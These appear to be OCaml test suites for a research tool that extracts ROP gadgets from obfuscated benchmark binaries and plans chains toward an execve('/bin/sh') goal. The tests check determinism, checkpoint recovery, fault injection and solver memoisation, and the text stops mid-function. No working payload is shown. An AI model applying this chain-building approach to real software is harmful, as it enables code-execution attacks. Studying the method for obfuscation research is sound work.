  Runner.Manifest.record m ~key:"a" ~payload:"v1";
  Runner.Manifest.record m ~key:"a" ~payload:"v2";
  Runner.Manifest.close m;
  let m2 = Runner.Manifest.open_ ~dir in
  Alcotest.(check bool) "last record wins" true
    (match Runner.Manifest.find m2 "a" with
     | Some e -> e.Runner.Manifest.e_payload = "v2"
     | None -> false);
  Runner.Manifest.close m2;
  Gp_harness.Experiments.rm_rf dir

let test_manifest_second_writer_demotes () =
  let dir = tmp_dir () in
  let m = Runner.Manifest.open_ ~dir in
  Runner.Manifest.record m ~key:"a" ~payload:"v";
  let m2 = Runner.Manifest.open_ ~dir in
  Alcotest.(check bool) "demoted" true (Runner.Manifest.read_only m2 <> None);
  (* read-only manifests still accept (and ignore durability of)
     records in memory; recording must not raise *)
  Runner.Manifest.record m2 ~key:"b" ~payload:"w";
  Runner.Manifest.close m2;
  Runner.Manifest.close m;
  (* after the writer released the lock, a fresh open sees only the
     durably recorded cell *)
  let m3 = Runner.Manifest.open_ ~dir in
  Alcotest.(check bool) "writer again" true (Runner.Manifest.read_only m3 = None);
  Alcotest.(check int) "only the locked writer persisted" 1
    (Runner.Manifest.completed m3);
  Runner.Manifest.close m3;
  Gp_harness.Experiments.rm_rf dir

let test_manifest_torn_tail_recovers () =
  let dir = tmp_dir () in
  let m = Runner.Manifest.open_ ~dir in
  Runner.Manifest.record m ~key:"a" ~payload:"payload-a";
  Runner.Manifest.record m ~key:"b" ~payload:"payload-b";
  Runner.Manifest.close m;
  let path = Runner.Manifest.wal_path ~dir in
  let size = (Unix.stat path).Unix.st_size in
  Faultsim.truncate_file ~k:(size - 3) path;
  let m2 = Runner.Manifest.open_ ~dir in
  Alcotest.(check int) "prefix replayed" 1 (Runner.Manifest.replayed m2);
  Alcotest.(check bool) "torn tail measured" true
    (Runner.Manifest.torn_bytes m2 > 0);
  Alcotest.(check bool) "surviving record intact" true
    (match Runner.Manifest.find m2 "a" with
     | Some e -> e.Runner.Manifest.e_payload = "payload-a"
     | None -> false);
  Alcotest.(check bool) "torn record recomputes" true
    (Runner.Manifest.find m2 "b" = None);
  (* appending after recovery works on the truncated file *)
  Runner.Manifest.record m2 ~key:"c" ~payload:"payload-c";
  Runner.Manifest.close m2;
  let m3 = Runner.Manifest.open_ ~dir in
  Alcotest.(check int) "recovered + appended" 2 (Runner.Manifest.replayed m3);
  Runner.Manifest.close m3;
  Gp_harness.Experiments.rm_rf dir

(* ----- run_corpus ----- *)

let corpus_cells compute_log =
  List.map
    (fun key ->
      ( key,
        fun ~attempt:_ _b ->
          compute_log := key :: !compute_log;
          Ok ("result:" ^ key) ))
    [ "p1/none"; "p1/ollvm"; "p2/none" ]

let test_run_corpus_resume_skips_completed () =
  let dir = tmp_dir () in
  let log = ref [] in
  let m = Runner.Manifest.open_ ~dir in
  let outcomes, report =
    Runner.run_corpus ~manifest:m ~encode:Fun.id ~decode:Fun.id
      (corpus_cells log)
  in
  Runner.Manifest.close m;
  Alcotest.(check int) "all computed" 3 report.Runner.r_computed;
  Alcotest.(check int) "cold computes every cell" 3 (List.length !log);
  let m2 = Runner.Manifest.open_ ~dir in
  let log2 = ref [] in
  let outcomes2, report2 =
    Runner.run_corpus ~manifest:m2 ~resume:true ~encode:Fun.id ~decode:Fun.id
      (corpus_cells log2)
  in
  Runner.Manifest.close m2;
  Alcotest.(check int) "nothing recomputed" 0 (List.length !log2);
  Alcotest.(check int) "all resumed" 3 report2.Runner.r_resumed;
  Alcotest.(check bool) "resumed results identical" true
    (List.map (fun c -> c.Runner.c_result) outcomes
    = List.map (fun c -> c.Runner.c_result) outcomes2);
  Alcotest.(check bool) "resumed flag set" true
    (List.for_all (fun c -> c.Runner.c_resumed) outcomes2);
  Gp_harness.Experiments.rm_rf dir

let test_run_corpus_partial_resume () =
  let dir = tmp_dir () in
  (* pre-record one cell, as if a crashed sweep had checkpointed it *)
  let m = Runner.Manifest.open_ ~dir in
  Runner.Manifest.record m ~key:"p1/ollvm" ~payload:"result:p1/ollvm";
  Runner.Manifest.close m;
  let m2 = Runner.Manifest.open_ ~dir in
  let log = ref [] in
  let _, report =
    Runner.run_corpus ~manifest:m2 ~resume:true ~encode:Fun.id ~decode:Fun.id
      (corpus_cells log)
  in
  Runner.Manifest.close m2;
  Alcotest.(check int) "one resumed" 1 report.Runner.r_resumed;
  Alcotest.(check int) "rest recomputed" 2 report.Runner.r_computed;
  Alcotest.(check bool) "completed cell skipped" true
    (not (List.mem "p1/ollvm" !log));
  Gp_harness.Experiments.rm_rf dir

let test_run_corpus_failures_not_checkpointed () =
  let dir = tmp_dir () in
  let cells =
    [ ("ok", fun ~attempt:_ _b -> Ok "fine");
      ("bad", fun ~attempt:_ _b ->
          Error (Gp_core.Fail.Emu_fault "unmapped")) ]
  in
  let m = Runner.Manifest.open_ ~dir in
  let _, report =
    Runner.run_corpus ~manifest:m ~encode:Fun.id ~decode:Fun.id cells
  in
  Runner.Manifest.close m;
  Alcotest.(check int) "failure reported" 1 (List.length report.Runner.r_failed);
  let m2 = Runner.Manifest.open_ ~dir in
  Alcotest.(check bool) "failed cell not recorded" true
    (Runner.Manifest.find m2 "bad" = None);
  Alcotest.(check bool) "succeeding cell recorded" true
    (Runner.Manifest.find m2 "ok" <> None);
  (* a resumed run retries the failed cell *)
  let log = ref [] in
  let cells2 =
    [ ("ok", fun ~attempt:_ _b -> log := "ok" :: !log; Ok "fine");
      ("bad", fun ~attempt:_ _b -> log := "bad" :: !log; Ok "fixed") ]
  in
  let _, report2 =
    Runner.run_corpus ~manifest:m2 ~resume:true ~encode:Fun.id ~decode:Fun.id
      cells2
  in
  Runner.Manifest.close m2;
  Alcotest.(check bool) "only the failed cell reruns" true (!log = [ "bad" ]);
  Alcotest.(check int) "now clean" 0 (List.length report2.Runner.r_failed);
  Gp_harness.Experiments.rm_rf dir

let suite =
  [ Alcotest.test_case "backoff deterministic" `Quick test_backoff_deterministic;
    Alcotest.test_case "backoff keyed by cell" `Quick test_backoff_keyed_by_cell;
    Alcotest.test_case "classify taxonomy" `Quick test_classify;
    Alcotest.test_case "run_cell retries transient" `Quick
      test_run_cell_retries_transient;
    Alcotest.test_case "run_cell permanent no retry" `Quick
      test_run_cell_permanent_no_retry;
    Alcotest.test_case "run_cell gives up at cap" `Quick test_run_cell_gives_up;
    Alcotest.test_case "run_cell catches Budget.Exhausted" `Quick
      test_run_cell_catches_budget_exhausted;
    Alcotest.test_case "run_cell fresh watchdog" `Quick
      test_run_cell_fresh_watchdog_per_attempt;
    Alcotest.test_case "manifest roundtrip" `Quick test_manifest_roundtrip;
    Alcotest.test_case "manifest last record wins" `Quick
      test_manifest_rerecord_wins_last;
    Alcotest.test_case "manifest second writer demotes" `Quick
      test_manifest_second_writer_demotes;
    Alcotest.test_case "manifest torn tail recovers" `Quick
      test_manifest_torn_tail_recovers;
    Alcotest.test_case "run_corpus resume skips completed" `Quick
      test_run_corpus_resume_skips_completed;
    Alcotest.test_case "run_corpus partial resume" `Quick
      test_run_corpus_partial_resume;
    Alcotest.test_case "run_corpus failures retry on resume" `Quick
      test_run_corpus_failures_not_checkpointed ]
