(* Stage 3–4 parallelism & hash-consing tests (DESIGN.md "Stage 3–4
   parallelism & hash-consing").  Three angles:

   - differential: the full pipeline — now including the goal-portfolio
     planner and in-worker validation — at [jobs > 1] is bit-identical
     to the sequential run across survey cells: chains, planner
     counters, validation tallies, rungs;
   - fault injection under parallel validation: the chain-keyed
     emulator fuse (plus the keyed decode/solver schedules) must hit
     the same items at jobs 1/2/4, so outcomes are invariant;
   - hash-consing properties: [Term.intern] gives physical equality
     exactly on structural equality, simplify is idempotent under
     interning, and the simplify/linearize memo is semantically
     transparent (memo-on ≡ memo-off), as is the pool-keyed solver
     memo.

   Honors the JOBS environment variable (default 4) so
   `make check-plan-par` can sweep job counts without editing code. *)

let jobs_under_test =
  match Sys.getenv_opt "JOBS" with
  | Some s -> (try max 1 (int_of_string s) with _ -> 4)
  | None -> 4

(* ----- differential: full pipeline, planner counters included ----- *)

let diff_programs =
  [ "fibonacci"; "gcd_lcm"; "bubble_sort"; "crc_check"; "stack_machine" ]

let planner_config =
  { Gp_core.Planner.max_plans = 4; node_budget = 1200; time_budget = 10.;
    branch_cap = 10; goal_cap = 6; max_steps = 14 }

(* Everything in the outcome that must not depend on the job count —
   including the new stage 3-4 observability counters.  Cache hit/miss
   counters and wall-clock times are deliberately absent: they are
   properties of cache temperature and the host, not of verdicts. *)
type fingerprint = {
  f_extracted : int;
  f_deduped : int;
  f_pool_size : int;
  f_plans_found : int;
  f_chains : string list;            (* sorted chain keys *)
  f_chains_built : int;
  f_chains_validated : int;
  f_plan_expanded : int;
  f_plan_peak_queue : int;
  f_plan_inst_hits : int;
  f_plan_cand_hits : int;
  f_plan_discarded : int;
  f_vfaults : int;
  f_vtimeouts : int;
  f_quarantined : (string * int) list;
  f_unknowns : int;
  f_budget_hits : string list;
  f_rungs : string list;
}

let fingerprint (o : Gp_core.Api.outcome) =
  let s = o.Gp_core.Api.stats in
  { f_extracted = s.Gp_core.Api.extracted;
    f_deduped = s.Gp_core.Api.deduped;
    f_pool_size = s.Gp_core.Api.pool_size;
    f_plans_found = s.Gp_core.Api.plans_found;
    f_chains =
      List.sort compare
        (List.map Gp_core.Payload.chain_key o.Gp_core.Api.chains);
    f_chains_built = s.Gp_core.Api.chains_built;
    f_chains_validated = s.Gp_core.Api.chains_validated;
    f_plan_expanded = s.Gp_core.Api.plan_expanded;
    f_plan_peak_queue = s.Gp_core.Api.plan_peak_queue;
    f_plan_inst_hits = s.Gp_core.Api.plan_inst_hits;
    f_plan_cand_hits = s.Gp_core.Api.plan_cand_hits;
    f_plan_discarded = s.Gp_core.Api.plan_discarded;
    f_vfaults = s.Gp_core.Api.validate_faults;
    f_vtimeouts = s.Gp_core.Api.validate_timeouts;
    f_quarantined = s.Gp_core.Api.quarantined;
    f_unknowns = s.Gp_core.Api.solver_unknowns;
    f_budget_hits = s.Gp_core.Api.budget_hits;
    f_rungs = List.map Gp_core.Api.rung_name o.Gp_core.Api.rungs }

let run_once ~jobs image =
  Gp_core.Gadget.reset_ids ();
  Gp_core.Api.run ~planner_config ~jobs image (Gp_core.Goal.Execve "/bin/sh")

let test_differential () =
  List.iter
    (fun pname ->
      let entry = Gp_corpus.Programs.find pname in
      List.iter
        (fun (cname, cfg) ->
          let image =
            Gp_codegen.Pipeline.compile
              ~transform:(Gp_obf.Obf.transform cfg)
              entry.Gp_corpus.Programs.source
          in
          let seq = fingerprint (run_once ~jobs:1 image) in
          let par = fingerprint (run_once ~jobs:jobs_under_test image) in
          let cell = Printf.sprintf "%s/%s" pname cname in
          Alcotest.(check bool) (cell ^ " identical") true (seq = par))
        Gp_harness.Workspace.obf_configs)
    diff_programs

(* The portfolio must actually produce chains on an easy cell — a
   determinism test that compares two empty runs proves nothing. *)
let test_portfolio_finds_chains () =
  let image =
    Gp_codegen.Pipeline.compile
      ~transform:(Gp_obf.Obf.transform Gp_obf.Obf.ollvm)
      (Gp_corpus.Programs.find "fibonacci").Gp_corpus.Programs.source
  in
  let o = run_once ~jobs:jobs_under_test image in
  Alcotest.(check bool) "chains found" true (o.Gp_core.Api.chains <> []);
  Alcotest.(check bool)
    "quota respected" true
    (List.length o.Gp_core.Api.chains
     <= planner_config.Gp_core.Planner.max_plans);
  Alcotest.(check bool)
    "planner expanded nodes" true
    (o.Gp_core.Api.stats.Gp_core.Api.plan_expanded > 0);
  Alcotest.(check bool)
    "peak queue observed" true
    (o.Gp_core.Api.stats.Gp_core.Api.plan_peak_queue > 0)

(* ----- fault injection under parallel validation ----- *)

(* A 10% uniform sweep — decode, solver, AND the chain-keyed emulator
   fuse — at jobs 1/2/4: every schedule is keyed on the item, so the
   whole outcome (chains, tallies, rungs) is invariant. *)
let test_faults_invariant_under_jobs () =
  let image =
    Gp_codegen.Pipeline.compile
      ~transform:(Gp_obf.Obf.transform Gp_obf.Obf.tigress)
      (Gp_corpus.Programs.find "fibonacci").Gp_corpus.Programs.source
  in
  let cfg = Gp_harness.Faultsim.uniform ~seed:11 0.1 in
  Gp_harness.Faultsim.with_faults cfg (fun () ->
      let f1 = fingerprint (run_once ~jobs:1 image) in
      let f2 = fingerprint (run_once ~jobs:2 image) in
      let f4 = fingerprint (run_once ~jobs:4 image) in
      Alcotest.(check bool) "jobs=2 identical" true (f1 = f2);
      Alcotest.(check bool) "jobs=4 identical" true (f1 = f4);
      (* the sweep must actually be injecting *)
      match List.assoc_opt "decode" f1.f_quarantined with
      | Some n when n > 0 -> ()
      | _ -> Alcotest.fail "no decode faults quarantined at 10%")

(* The keyed fuse itself: for a fixed key the armed step count is a
   pure function of (seed, key) — repeated reads agree, and distinct
   keys produce an actual schedule (some fire, some don't) at 50%. *)
let test_keyed_fuse_pure () =
  let cfg = { (Gp_harness.Faultsim.uniform ~seed:7 0.5) with
              Gp_harness.Faultsim.decode_rate = 0.; solver_rate = 0. } in
  Gp_harness.Faultsim.with_faults cfg (fun () ->
      let reads k = List.init 3 (fun _ -> !Gp_emu.Machine.chaos_fuse_keyed k) in
      List.iter
        (fun k ->
          match reads k with
          | [ a; b; c ] ->
            Alcotest.(check bool) "stable per key" true (a = b && b = c)
          | _ -> assert false)
        [ 0; 1; 42; 1337; -5 ];
      let fired =
        List.filter (fun k -> !Gp_emu.Machine.chaos_fuse_keyed k <> None)
          (List.init 64 (fun i -> i))
      in
      Alcotest.(check bool) "some keys fire at 50%" true (fired <> []);
      Alcotest.(check bool) "some keys spared at 50%" true
        (List.length fired < 64))

(* ----- hash-consing properties ----- *)

(* Physical equality of interned terms is exactly structural equality. *)
let prop_intern_physeq (a, b) =
  Gp_smt.Term.intern a == Gp_smt.Term.intern b = (a = b)

(* Interning never changes the term's structure. *)
let prop_intern_identity t = Gp_smt.Term.intern t = t

(* Simplify is idempotent, and stays so through the interning table. *)
let prop_simplify_idempotent_interned t =
  let s = Gp_smt.Term.simplify t in
  Gp_smt.Term.simplify (Gp_smt.Term.intern s) = s
  && Gp_smt.Term.simplify s = s

(* The memo is semantically transparent: fresh (memo off), the miss
   that populates the table, and the hit that reads it back all agree,
   for simplify and linearize both. *)
let prop_term_memo_transparent t =
  Gp_smt.Term.reset_memo ();
  Gp_smt.Term.set_memo_enabled false;
  let s0 = Gp_smt.Term.simplify t in
  let l0 = Gp_smt.Term.linearize t in
  Gp_smt.Term.set_memo_enabled true;
  let s_miss = Gp_smt.Term.simplify t in
  let s_hit = Gp_smt.Term.simplify t in
  let l_miss = Gp_smt.Term.linearize t in
  let l_hit = Gp_smt.Term.linearize t in
  s0 = s_miss && s_miss = s_hit && l0 = l_miss && l_miss = l_hit

(* The pool-keyed solver memo answers exactly what an uncached solve
   against the same pool answers — miss and hit alike. *)
let prop_pool_key_verdict fs =
  Gp_smt.Cache.reset Gp_smt.Solver.pool_memo;
  let pool = Gp_core.Layout.pool ~salt:3 in
  let pk = Gp_core.Layout.pool_key ~salt:3 in
  let plain = Gp_smt.Solver.check ~pool fs in
  let miss = Gp_smt.Solver.check ~pool ~pool_key:pk fs in
  let hit = Gp_smt.Solver.check ~pool ~pool_key:pk fs in
  plain = miss && miss = hit

(* Distinct rotations get distinct keys (within one payload base), and
   equal salts mod the pin count collapse to one key — the key really
   is the pool's identity. *)
let test_pool_key_structure () =
  let npins = List.length (Gp_core.Layout.pin_candidates ()) in
  Alcotest.(check bool) "same rotation, same key" true
    (Gp_core.Layout.pool_key ~salt:1
     = Gp_core.Layout.pool_key ~salt:(1 + npins));
  Alcotest.(check bool) "different rotation, different key" true
    (Gp_core.Layout.pool_key ~salt:1 <> Gp_core.Layout.pool_key ~salt:2)

let suite =
  [ Alcotest.test_case "differential jobs=N vs jobs=1 (stages 3-4)" `Slow
      test_differential;
    Alcotest.test_case "portfolio finds chains" `Quick
      test_portfolio_finds_chains;
    Alcotest.test_case "faults invariant under jobs (keyed fuse)" `Slow
      test_faults_invariant_under_jobs;
    Alcotest.test_case "keyed fuse pure per key" `Quick test_keyed_fuse_pure;
    Alcotest.test_case "pool_key structure" `Quick test_pool_key_structure;
    Gen.qtest "intern: physical eq iff structural eq" ~count:300
      QCheck2.Gen.(pair Gen.term Gen.term) prop_intern_physeq;
    Gen.qtest "intern preserves structure" ~count:300 Gen.term
      prop_intern_identity;
    Gen.qtest "simplify idempotent under interning" ~count:300 Gen.term
      prop_simplify_idempotent_interned;
    Gen.qtest "term memo transparent" ~count:200 Gen.term
      prop_term_memo_transparent;
    Gen.qtest "pool-keyed verdict stable" ~count:100 Gen.formulas
      prop_pool_key_verdict ]
