(* QCheck generators shared across suites. *)

open Gp_x86

let reg : Reg.t QCheck2.Gen.t =
  QCheck2.Gen.map Reg.of_number (QCheck2.Gen.int_range 0 15)

let cond : Insn.cond QCheck2.Gen.t =
  QCheck2.Gen.map Insn.cond_of_number (QCheck2.Gen.int_range 0 15)

let imm32 : int64 QCheck2.Gen.t =
  QCheck2.Gen.map Int64.of_int
    (QCheck2.Gen.int_range (Int32.to_int Int32.min_int) (Int32.to_int Int32.max_int))

let imm64 : int64 QCheck2.Gen.t =
  QCheck2.Gen.map
    (fun (a, b) -> Int64.logor (Int64.shift_left (Int64.of_int a) 32) (Int64.of_int b))
    QCheck2.Gen.(pair (int_range 0 0xffffffff) (int_range 0 0xffffffff))

let disp : int QCheck2.Gen.t =
  QCheck2.Gen.oneof
    [ QCheck2.Gen.int_range (-128) 127;
      QCheck2.Gen.int_range (-100000) 100000 ]

let mem : Insn.mem QCheck2.Gen.t =
  QCheck2.Gen.map2 (fun base disp -> { Insn.base; disp }) reg disp

let operand : Insn.operand QCheck2.Gen.t =
  QCheck2.Gen.oneof
    [ QCheck2.Gen.map (fun r -> Insn.Reg r) reg;
      QCheck2.Gen.map (fun i -> Insn.Imm i) imm32;
      QCheck2.Gen.map (fun m -> Insn.Mem m) mem ]

(* ALU-style operand pairs that the encoder accepts. *)
let alu_operands : (Insn.operand * Insn.operand) QCheck2.Gen.t =
  let open QCheck2.Gen in
  oneof
    [ map2 (fun a b -> (Insn.Reg a, Insn.Reg b)) reg reg;
      map2 (fun a b -> (Insn.Reg a, Insn.Mem b)) reg mem;
      map2 (fun a b -> (Insn.Mem a, Insn.Reg b)) mem reg;
      map2 (fun a b -> (Insn.Reg a, Insn.Imm b)) reg imm32;
      map2 (fun a b -> (Insn.Mem a, Insn.Imm b)) mem imm32 ]

(* Any encodable instruction. *)
let insn : Insn.t QCheck2.Gen.t =
  let open QCheck2.Gen in
  oneof
    [ map (fun (d, s) -> Insn.Mov (d, s)) alu_operands;
      map2 (fun r i -> Insn.Movabs (r, i)) reg imm64;
      map2 (fun r m -> Insn.Lea (r, m)) reg mem;
      map (fun r -> Insn.Push r) reg;
      map (fun r -> Insn.Pop r) reg;
      map (fun i -> Insn.PushImm (Int64.to_int i)) imm32;
      map (fun (d, s) -> Insn.Add (d, s)) alu_operands;
      map (fun (d, s) -> Insn.Sub (d, s)) alu_operands;
      map (fun (d, s) -> Insn.And_ (d, s)) alu_operands;
      map (fun (d, s) -> Insn.Or_ (d, s)) alu_operands;
      map (fun (d, s) -> Insn.Xor (d, s)) alu_operands;
      map (fun (d, s) -> Insn.Cmp (d, s)) alu_operands;
      map2 (fun a b -> Insn.Test (a, b)) reg reg;
      map2 (fun a b -> Insn.Imul (a, b)) reg reg;
      map2 (fun r n -> Insn.Shl (r, n)) reg (int_range 0 63);
      map2 (fun r n -> Insn.Shr (r, n)) reg (int_range 0 63);
      map2 (fun r n -> Insn.Sar (r, n)) reg (int_range 0 63);
      map (fun r -> Insn.Inc r) reg;
      map (fun r -> Insn.Dec r) reg;
      map (fun r -> Insn.Neg r) reg;
      map (fun r -> Insn.Not_ r) reg;
      map2 (fun a b -> Insn.Xchg (a, b)) reg reg;
      map (fun i -> Insn.Jmp (Int64.to_int i)) imm32;
      map (fun r -> Insn.JmpReg r) reg;
      map (fun m -> Insn.JmpMem m) mem;
      map2 (fun c i -> Insn.Jcc (c, Int64.to_int i)) cond imm32;
      map (fun i -> Insn.Call (Int64.to_int i)) imm32;
      map (fun r -> Insn.CallReg r) reg;
      map (fun m -> Insn.CallMem m) mem;
      return Insn.Ret;
      map (fun n -> Insn.RetImm (n land 0xffff)) (int_range 0 0xffff);
      return Insn.Leave;
      return Insn.Syscall;
      return Insn.Nop;
      return Insn.Int3;
      return Insn.Hlt ]

(* Bit-vector terms over a small variable alphabet. *)
let term : Gp_smt.Term.t QCheck2.Gen.t =
  let open QCheck2.Gen in
  let var = map (fun i -> Gp_smt.Term.Var (Printf.sprintf "v%d" i)) (int_range 0 3) in
  let const = map (fun i -> Gp_smt.Term.Const i) imm64 in
  fix
    (fun self depth ->
      if depth = 0 then oneof [ var; const ]
      else
        let sub = self (depth - 1) in
        oneof
          [ var; const;
            map2 (fun a b -> Gp_smt.Term.Add (a, b)) sub sub;
            map2 (fun a b -> Gp_smt.Term.Sub (a, b)) sub sub;
            map2 (fun a b -> Gp_smt.Term.Mul (a, b)) sub sub;
            map (fun a -> Gp_smt.Term.Neg a) sub;
            map (fun a -> Gp_smt.Term.Not a) sub;
            map2 (fun a b -> Gp_smt.Term.And (a, b)) sub sub;
            map2 (fun a b -> Gp_smt.Term.Or (a, b)) sub sub;
            map2 (fun a b -> Gp_smt.Term.Xor (a, b)) sub sub;
            map2 (fun a k -> Gp_smt.Term.Shl (a, Gp_smt.Term.Const (Int64.of_int k)))
              sub (int_range 0 63);
            map2 (fun a k -> Gp_smt.Term.Shr (a, Gp_smt.Term.Const (Int64.of_int k)))
              sub (int_range 0 63) ])
    3

(* Solver atoms over the same variable alphabet as [term]. *)
let formula : Gp_smt.Formula.t QCheck2.Gen.t =
  let open QCheck2.Gen in
  let open Gp_smt.Formula in
  oneof
    [ return True;
      return False;
      map2 (fun a b -> Eq (a, b)) term term;
      map2 (fun a b -> Ne (a, b)) term term;
      map2 (fun a b -> Slt (a, b)) term term;
      map2 (fun a b -> Sle (a, b)) term term;
      map2 (fun a b -> Ult (a, b)) term term;
      map2 (fun a b -> Ule (a, b)) term term;
      map (fun a -> Readable a) term;
      map (fun a -> Writable a) term ]

(* A solver query: a small conjunction of atoms. *)
let formulas : Gp_smt.Formula.t list QCheck2.Gen.t =
  QCheck2.Gen.(list_size (int_range 0 5) formula)

let model : (string -> int64) QCheck2.Gen.t =
  QCheck2.Gen.map
    (fun (a, b, c, d) v ->
      match v with
      | "v0" -> a
      | "v1" -> b
      | "v2" -> c
      | _ -> d)
    QCheck2.Gen.(quad imm64 imm64 imm64 imm64)

(* Wrap a QCheck2 test into an alcotest case. *)
let qtest name ?(count = 200) gen prop =
  QCheck_alcotest.to_alcotest
    (QCheck2.Test.make ~name ~count gen prop)
