(* Suffix-compositional extraction (DESIGN.md §16): the composed
   summarizer must be BIT-IDENTICAL to the monolithic one — same
   summaries, same refusals, at every byte position and residual budget —
   and the full pipeline must produce identical analyses with composition
   on and off, at any job count, fault injection included. *)

open Gp_x86

let image_of_bytes code =
  Gp_util.Image.create ~entry:0x400000L ~code ~data:(Bytes.create 16) ()

(* Canonical bytes for a result: State.t contains maps whose tree shape
   depends on insertion order, so structural compare is wrong — the
   serializer (sorted bindings, structure-only term DAG) is the
   canonical form. *)
let result_bytes (ss, refused) =
  Gp_symx.Exec.write_summaries
    (List.map (Gp_symx.Exec.rebase ~addr:0L) ss, refused)

(* ----- qcheck differential: composed == monolithic everywhere ----- *)

let gen_case :
    (Insn.t list * (int * int * int)) QCheck2.Gen.t =
  let open QCheck2.Gen in
  (* small budgets explore the gate/limit logic; larger ones the deep
     composition chains *)
  let budget = triple (int_range 0 8) (int_range 0 2) (int_range 0 2) in
  pair (list_size (int_range 1 12) Gen.insn) budget

let prop_compose_matches_monolithic (insns, (mi, mf, mm)) =
  let code = Encode.insns insns in
  let image = image_of_bytes code in
  let config = { Gp_symx.Exec.max_insns = mi; max_forks = mf; max_merges = mm } in
  let memo = Gp_symx.Exec.memo_create () in
  let ok = ref true in
  (* every byte position, like the sliding-window harvest; one shared
     memo so later positions reuse earlier suffixes *)
  for pos = 0 to Bytes.length code - 1 do
    let addr = Int64.add 0x400000L (Int64.of_int pos) in
    let mono = Gp_symx.Exec.summarize_r ~config image addr in
    let comp = Gp_symx.Exec.summarize_cr ~config ~memo image addr in
    if result_bytes mono <> result_bytes comp then ok := false
  done;
  !ok

let exec_suite =
  [ Gen.qtest "composed == monolithic at every (position, budget)" ~count:300
      gen_case prop_compose_matches_monolithic ]

(* ----- suffix entry serialization round-trips ----- *)

let test_suffix_roundtrip () =
  let insns = [ Insn.Pop Reg.RDI; Insn.Syscall; Insn.Pop Reg.RAX; Insn.Ret ] in
  let image = image_of_bytes (Encode.insns insns) in
  let seen = ref 0 in
  let tbl : (string, string) Hashtbl.t = Hashtbl.create 8 in
  let key ~pos ~cap:(a, b, c) = Printf.sprintf "%d:%d:%d:%d" pos a b c in
  let store_add ~pos ~cap e =
    Hashtbl.replace tbl (key ~pos ~cap) (Gp_symx.Exec.write_suffix e)
  in
  let r1 = Gp_symx.Exec.summarize_cr ~store_add image 0x400000L in
  (* replay against the serialized store only: every lookup must hit *)
  let store_find ~pos ~cap =
    match Hashtbl.find_opt tbl (key ~pos ~cap) with
    | None -> None
    | Some payload ->
      incr seen;
      Some
        (Gp_symx.Exec.read_suffix
           ~addr:(Int64.add 0x400000L (Int64.of_int pos))
           payload)
  in
  let r2 = Gp_symx.Exec.summarize_cr ~store_find image 0x400000L in
  Alcotest.(check bool) "store round-trip identical" true
    (result_bytes r1 = result_bytes r2);
  Alcotest.(check bool) "store was consulted" true (!seen > 0)

let base_suite =
  [ Alcotest.test_case "suffix store round-trip" `Quick test_suffix_roundtrip ]

(* ----- full-pipeline differential: compose on/off x jobs x faults -----

   The ablation flag must be result-invisible: an analysis with
   composition disabled is the ground truth, and the composed pipeline
   must reproduce its gadget list (ids included — they seed the layout
   pool's address salt), quarantine ledger, and budget accounting at
   every job count, with and without fault injection.  Suffix-STORE
   state is deliberately not compared: composed entries' reuse metadata
   is conservative and path-dependent (DESIGN.md §16), only results are
   canonical. *)

let with_compose b f =
  let prev = Gp_symx.Exec.compose_enabled () in
  Gp_symx.Exec.set_compose_enabled b;
  Fun.protect ~finally:(fun () -> Gp_symx.Exec.set_compose_enabled prev) f

let pipeline_fingerprint ~compose ~jobs image =
  with_compose compose (fun () ->
      Gp_core.Gadget.reset_ids ();
      Gp_core.Incr.reset ();
      let gs, st = Gp_core.Extract.harvest_r ~jobs image in
      ( List.map
          (fun (g : Gp_core.Gadget.t) -> (g.Gp_core.Gadget.id, g.Gp_core.Gadget.addr))
          gs,
        st.Gp_core.Extract.h_quarantined,
        st.Gp_core.Extract.h_budget_hit ))

let diff_cells () =
  List.concat_map
    (fun pname ->
      let entry = Gp_corpus.Programs.find pname in
      List.map
        (fun (cname, cfg) ->
          ( Printf.sprintf "%s/%s" pname cname,
            Gp_codegen.Pipeline.compile
              ~transform:(Gp_obf.Obf.transform cfg)
              entry.Gp_corpus.Programs.source ))
        Gp_harness.Workspace.obf_configs)
    [ "fibonacci"; "bubble_sort" ]

let check_cells cells =
  List.iter
    (fun (cell, image) ->
      let base = pipeline_fingerprint ~compose:false ~jobs:1 image in
      List.iter
        (fun jobs ->
          Alcotest.(check bool)
            (Printf.sprintf "%s compose jobs=%d" cell jobs)
            true
            (pipeline_fingerprint ~compose:true ~jobs image = base))
        [ 1; 4 ];
      Alcotest.(check bool)
        (cell ^ " no-compose jobs=4")
        true
        (pipeline_fingerprint ~compose:false ~jobs:4 image = base))
    cells

let test_pipeline_differential () = check_cells (diff_cells ())

(* The same sweep under a 10% uniform fault schedule: injected decode
   faults hit whole starts (the chaos check precedes both the store and
   the summarizer), so composition must neither mask nor duplicate a
   quarantined fault at any job count. *)
let test_pipeline_differential_faults () =
  let cells = diff_cells () in
  let cfg = Gp_harness.Faultsim.uniform ~seed:23 0.1 in
  Gp_harness.Faultsim.with_faults cfg (fun () ->
      check_cells cells;
      (* the sweep must actually inject: zero decode quarantines at 10%
         over thousands of starts means a dead hook *)
      let _, tally, _ =
        pipeline_fingerprint ~compose:true ~jobs:1 (snd (List.hd cells))
      in
      match List.assoc_opt "decode" tally with
      | Some n when n > 0 -> ()
      | _ -> Alcotest.fail "no decode faults quarantined at 10%")

(* With composition on, the suffix store must actually see traffic, and
   a LATER harvest must be able to reuse it across whole-gadget-key
   misses.  A warm same-image re-run never reaches the suffix layer
   (every whole-gadget key hits first), and canonical suffix entries are
   keyed at the full budget only — so the cross-run probe is the
   transfer the paper's 1.12x row is about: harvest the ORIGINAL build,
   then the obfuscated one at the same config.  Starts whose window the
   obfuscator perturbed miss the whole-gadget store, but the unperturbed
   tail positions inside them hit the original's canonical suffix
   entries (deterministic at jobs=1). *)
let test_pipeline_suffix_store_traffic () =
  let entry = Gp_corpus.Programs.find "fibonacci" in
  let orig =
    Gp_codegen.Pipeline.compile
      ~transform:(Gp_obf.Obf.transform Gp_obf.Obf.none)
      entry.Gp_corpus.Programs.source
  in
  let obf =
    Gp_codegen.Pipeline.compile
      ~transform:(Gp_obf.Obf.transform Gp_obf.Obf.ollvm)
      entry.Gp_corpus.Programs.source
  in
  with_compose true (fun () ->
      Gp_core.Gadget.reset_ids ();
      Gp_core.Incr.reset ();
      let _, st1 = Gp_core.Extract.harvest_r orig in
      Alcotest.(check bool) "suffixes persisted" true
        (Gp_core.Incr.suffix_size () > 0);
      Alcotest.(check bool) "substitutions happened" true
        (st1.Gp_core.Extract.h_substitutions > 0);
      let h0, _ = Gp_core.Incr.suffix_store_stats () in
      Gp_core.Gadget.reset_ids ();
      let _, st2 = Gp_core.Extract.harvest_r obf in
